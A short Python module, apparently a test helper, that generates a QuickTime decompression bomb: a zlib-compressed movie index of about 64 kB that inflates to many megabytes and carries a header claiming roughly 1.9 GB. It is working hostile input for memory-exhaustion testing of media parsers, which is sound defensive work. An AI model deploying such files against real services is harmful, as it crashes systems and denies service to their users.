"""A decompression bomb: a small media file that makes a parser allocate a lot of memory."""

import zlib

MIB = 1024 * 1024


def bomb(unpacked: int = 64, claimed: int = 1_900_000_000) -> bytes:
    """A QuickTime file with a compressed index (`cmov`) of 64 kB that expands to `unpacked` MiB.

    Its header claims that the index expands to `claimed` bytes.
    """
    compressor = zlib.compressobj(9)
    packed = b"".join(compressor.compress(bytes(MIB)) for _ in range(unpacked)) + compressor.flush()

    def box(kind: bytes, body: bytes) -> bytes:
        return (len(body) + 8).to_bytes(4, "big") + kind + body

    index = box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", claimed.to_bytes(4, "big") + packed))
    return box(b"ftyp", b"qt  " + bytes(4) + b"qt  ") + box(b"moov", index)
